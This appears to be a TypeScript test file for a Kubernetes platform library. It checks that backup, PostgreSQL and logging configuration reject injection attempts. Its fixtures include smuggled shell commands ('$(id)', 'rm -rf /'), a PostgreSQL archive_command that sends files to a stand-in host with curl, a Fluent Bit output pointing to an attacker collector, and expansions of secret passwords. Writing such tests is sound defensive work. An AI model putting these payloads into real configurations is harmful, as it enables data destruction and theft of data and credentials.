/**
 * Issue 16's hostile inputs, each through the public API: refused with a PlatformConfigError that names the construct
 * path, the field, the value and what is allowed, or (for values the format can hold) rendered so that the scripts
 * are the same text as for a benign value.
 */
import { App } from 'cdk8s';
import { describe, expect, it } from 'vitest';
import { EnvironmentChart, EnvironmentProfile, Engine, PlatformConfigError, StatefulDatastore, StatefulDatastoreProps, synthesizeToJson } from '../../src';
import { LogBackend, TraceBackend } from '../../src/observability/backends';
import { NetworkPeer } from '../../src/observability/common';
import { development, staging, synthEnv } from '../helpers';
import { fullStack } from '../observability/helpers';

const INJECTED_DESTINATION = 's3://platform-backups-staging/$(id)";rm${IFS}-rf${IFS}/;echo${IFS}"';
const INJECTED_ENDPOINT = 's3.example.com" ; rm -rf / ; echo "';
const stagingWithBackups: EnvironmentProfile = { ...staging, backups: { ...staging.backups, enabled: true, destination: 's3://platform-backups-staging' } };

/** Builds one datastore in staging and returns the error it throws (or undefined). */
function refusal(props: Partial<StatefulDatastoreProps>, profile = stagingWithBackups): unknown {
  try {
    synthEnv((c) => {
      new StatefulDatastore(c, 'db', { name: 'orders-db', namespace: 'data', engine: Engine.clickhouse(), ...props });
    }, profile);
    return undefined;
  } catch (e) {
    return e;
  }
}

describe('issue 16: shell injection into backup and restore jobs', () => {
  it('GIVEN a backup destination with $(id) and ";rm" WHEN synthesized THEN it is refused, naming the datastore, the field and the rules', () => {
    const e = refusal({ backup: { destination: INJECTED_DESTINATION } });
    expect(e).toBeInstanceOf(PlatformConfigError);
    expect((e as Error).message).toBe(
      `staging/db: backup.destination: got ${JSON.stringify(INJECTED_DESTINATION)}; must be an object-storage URL "s3://<bucket>[/<prefix>]": a prefix is path segments of letters, digits, ".", "_" and "-" separated by "/" (no "." or ".." segment, at most 512 characters)`,
    );
  });

  it('GIVEN the same destination in the profile WHEN synthesized THEN the profile field is named', () => {
    const e = refusal({}, { ...stagingWithBackups, backups: { ...stagingWithBackups.backups, destination: INJECTED_DESTINATION } });
    expect((e as Error).message).toContain('staging/db: profile.backups.destination: got ');
  });

  it('GIVEN a backup.endpoint with quotes and "; rm -rf /" WHEN synthesized THEN it is refused (it was not validated at all)', () => {
    const e = refusal({ backup: { endpoint: INJECTED_ENDPOINT } });
    expect(e).toBeInstanceOf(PlatformConfigError);
    expect((e as Error).message).toBe(
      `staging/db: backup.endpoint: got ${JSON.stringify(INJECTED_ENDPOINT)}; must be a host name or "host:port" such as "s3.eu-west-1.amazonaws.com" or "minio.storage.svc:9000" (no scheme, no path)`,
    );
  });

  it("GIVEN a ' in a destination WHEN used by ClickHouse (S3('...')) or Elasticsearch (a JSON body) THEN it is refused", () => {
    for (const engine of [Engine.clickhouse(), Engine.elasticsearch()]) {
      const e = refusal({ engine, backup: { destination: "s3://platform-backups-staging/it's" } });
      expect((e as Error).message).toBe(
        'staging/db: backup.destination: got "s3://platform-backups-staging/it\'s"; must be an object-storage URL "s3://<bucket>[/<prefix>]": a prefix is path segments of letters, digits, ".", "_" and "-" separated by "/" (no "." or ".." segment, at most 512 characters)',
      );
    }
  });

  it('GIVEN two datastores with different destinations WHEN synthesized THEN their backup scripts are the same text: the destination is data', () => {
    const r = synthEnv((c) => {
      new StatefulDatastore(c, 'a', { name: 'events-a', namespace: 'data', engine: Engine.clickhouse(), backup: { destination: 's3://bucket-one/x' } });
      new StatefulDatastore(c, 'b', {
        name: 'events-b',
        namespace: 'data',
        engine: Engine.clickhouse(),
        backup: { destination: 's3://bucket-two/y/z', endpoint: 'minio.storage.svc:9000' },
      });
    }, stagingWithBackups);
    const pods = ['events-a', 'events-b'].map((n) => r.find('CronJob', `${n}-backup`).spec.jobTemplate.spec.template.spec);
    const scripts = pods.map((p) => [...p.initContainers, ...p.containers].map((c: any) => c.command[2]));
    expect(scripts[0]).toEqual(scripts[1]);
    expect(pods[1].containers[0].env).toContainEqual({ name: 'BACKUP_ENDPOINT_URL', value: 'https://minio.storage.svc:9000' });
    expect(pods[1].containers[0].env).toContainEqual({ name: 'BACKUP_PREFIX', value: 'y/z/data/events-b' });
  });
});

describe('issue 16: config injection', () => {
  const pg = (parameters: Record<string, string>) => () =>
    synthEnv((c) => {
      new StatefulDatastore(c, 'db', { name: 'orders-db', namespace: 'data', engine: Engine.postgres({ parameters }) });
    }, development);

  it('GIVEN a newline in a PostgreSQL parameter value WHEN synthesized THEN it is refused (it would add postgresql.conf lines)', () => {
    expect(pg({ shared_buffers: "256MB'\nssl = off\narchive_command = 'curl https://evil.example.com/?f=%p" })).toThrow(
      `development/db: engine.parameters.shared_buffers: got "256MB'\\nssl = off\\narchive_command = 'curl https://evil.example.com/?f=%p"; must not contain line breaks, tabs or other control characters (postgresql.conf ends a value at the line break)`,
    );
  });

  it('GIVEN a newline in a PostgreSQL parameter name, a directive or a managed parameter WHEN synthesized THEN each is refused', () => {
    expect(pg({ 'work_mem = 1\nssl': 'off' })).toThrow(
      'development/db: engine.parameters: got "work_mem = 1\\nssl"; must be a postgresql.conf parameter name: lowercase letters, digits and "_" (starting with a letter or "_"), optionally "<extension>.<name>"',
    );
    expect(pg({ include: '/etc/passwd' })).toThrow(
      'development/db: engine.parameters: got "include"; is a postgresql.conf directive that reads another file, not a parameter',
    );
    expect(pg({ archive_command: 'curl evil' })).toThrow(
      'development/db: engine.parameters.archive_command: got "curl evil"; is set by CloudNativePG itself; remove it',
    );
  });

  it('GIVEN a value with quotes and "#" WHEN synthesized THEN it reaches CloudNativePG as given (it doubles the quotes when writing postgresql.conf)', () => {
    const r = pg({ log_line_prefix: "%m [%p] '%u' # " })();
    expect(r.find('Cluster', 'orders-db').spec.postgresql.parameters.log_line_prefix).toBe("%m [%p] '%u' # ");
  });

  const withLogs = (logs: LogBackend) => () =>
    synthEnv((c) => {
      fullStack(c, { logs, traces: undefined });
    }, development);

  it("GIVEN a newline in the log backend's index prefix WHEN synthesized THEN it is refused (it would add a Fluent Bit [OUTPUT] section)", () => {
    const prefix = 'logs\n[OUTPUT]\n    Name  http\n    Host  collector.evil.example.com\n    Match *';
    expect(withLogs(LogBackend.elasticsearch({ host: 'es.example.com', tls: true, indexPrefix: prefix, peer: NetworkPeer.cidrs(['10.0.0.0/8']) }))).toThrow(
      `development/observability/Grafana: logs.indexPrefix: got ${JSON.stringify(prefix)}; must be an index name prefix: lowercase letters, digits, ".", "_" and "-"`,
    );
  });

  it('GIVEN a Loki tenant with a newline or ${ES_PASSWORD} WHEN synthesized THEN it is refused', () => {
    for (const tenant of ['team\n[OUTPUT]', '${ES_PASSWORD}']) {
      expect(withLogs(LogBackend.loki({ host: 'loki.example.com', tenant, peer: NetworkPeer.cidrs(['10.0.0.0/8']) }))).toThrow(
        `development/observability/Grafana: logs.tenant: got ${JSON.stringify(tenant)}; must be a Loki tenant id: 1-150 characters of letters, digits and !-_.*'() (not "." or "..")`,
      );
    }
  });

  it('GIVEN an external Jaeger host or query URL with template or expansion syntax WHEN synthesized THEN it is refused', () => {
    const jaeger = (host: string, queryUrl: string) => () =>
      synthEnv((c) => {
        fullStack(c, { logs: undefined, traces: TraceBackend.jaeger({ host, queryUrl, peer: NetworkPeer.cidrs(['10.0.0.0/8']) }) });
      }, development);
    expect(jaeger('jaeger.svc\n  tls: {insecure: true}', 'http://jaeger-query.tracing.svc:16686')).toThrow(
      'development/observability: traces.host: got "jaeger.svc\\n  tls: {insecure: true}"; must be a host name (lowercase letters, digits, "-" and ".") or an IPv4 address',
    );
    expect(jaeger('jaeger.tracing.svc', 'http://${env:GF_SECURITY_ADMIN_PASSWORD}@q')).toThrow(
      'development/observability: traces.queryUrl: got "http://${env:GF_SECURITY_ADMIN_PASSWORD}@q"; must be an http(s) URL such as "http://jaeger-query.tracing.svc:16686" (host name, optional port and path of letters, digits and -._~/%)',
    );
  });
});

it('GIVEN no EnvironmentChart problems WHEN a hostile-free platform synthesizes THEN nothing is reported (the fixtures above are otherwise valid)', () => {
  const app = new App();
  const chart = new EnvironmentChart(app, { profile: stagingWithBackups });
  new StatefulDatastore(chart, 'db', { name: 'orders-db', namespace: 'data', engine: Engine.clickhouse() });
  expect(synthesizeToJson(app).problems).toEqual([]);
});
